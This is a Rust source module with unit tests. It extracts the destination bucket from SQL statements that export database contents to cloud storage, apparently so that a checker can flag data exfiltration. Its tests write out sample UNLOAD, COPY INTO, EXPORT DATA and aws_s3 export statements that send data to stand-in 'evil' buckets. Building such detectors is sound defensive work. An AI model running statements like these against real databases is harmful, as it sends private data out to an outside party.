//! Statements that make a database write its data into a bucket: `UNLOAD (…) TO 's3://…'` (Redshift, Athena), `COPY INTO
//! 's3://…' FROM …` (Snowflake), `EXPORT DATA OPTIONS (uri='gs://…')` (BigQuery), `aws_s3.query_export_to_s3(…,
//! aws_commons.create_s3_uri('bucket', …))` (RDS for PostgreSQL).

/// The address that a statement unloads into.
pub(super) fn target(text: &str) -> Option<String> {
    let mut before = "";
    let mut whole = String::new();
    // What stands between quotes is every second part; a doubled quote begins and ends an empty one.
    for (at, part) in text.split('\'').enumerate() {
        if at % 2 == 0 {
            before = part;
            whole.push_str(&part.to_ascii_lowercase());
            continue;
        }
        let word = last_word(before);
        let unloads = match &*word {
            "to" => whole.contains("unload"),
            "into" => whole.contains("copy"),
            "uri" => whole.contains("export data"),
            "create_s3_uri" if whole.contains("query_export_to_s3") => return Some(format!("s3://{part}")),
            _ => false,
        };
        if unloads && part.contains("://") {
            return Some(part.to_owned());
        }
    }
    None
}

fn last_word(text: &str) -> String {
    let text = text.trim_end_matches(|c: char| c.is_whitespace() || matches!(c, '=' | '('));
    let word = text.rsplit(|c: char| !(c.is_alphanumeric() || c == '_')).next();
    word.unwrap_or_default().to_ascii_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_what_is_written_to_counts() {
        for (statement, expected) in [
            ("UNLOAD ('select ''a'' from t') TO 's3://evil/x' IAM_ROLE default", Some("s3://evil/x")),
            ("copy into 's3://evil/x' from t storage_integration = i", Some("s3://evil/x")),
            (
                "EXPORT DATA OPTIONS ( uri = 'gs://evil/*.csv', format='CSV') AS SELECT 1",
                Some("gs://evil/*.csv"),
            ),
            (
                "select aws_s3.query_export_to_s3('select 1', aws_commons.create_s3_uri('evil', 'x', 'r'))",
                Some("s3://evil"),
            ),
            ("copy into t from 's3://public/x'", None),
            ("COPY t FROM 's3://public/x' IAM_ROLE default", None),
            (
                "select aws_s3.table_import_from_s3('t', '', '', aws_commons.create_s3_uri('b', 'x', 'r'))",
                None,
            ),
            ("update t set a = 'b' where c = 'to s3://x'", None),
            ("select 'it''s", None),
        ] {
            assert_eq!(target(statement).as_deref(), expected, "{statement}");
        }
    }
}
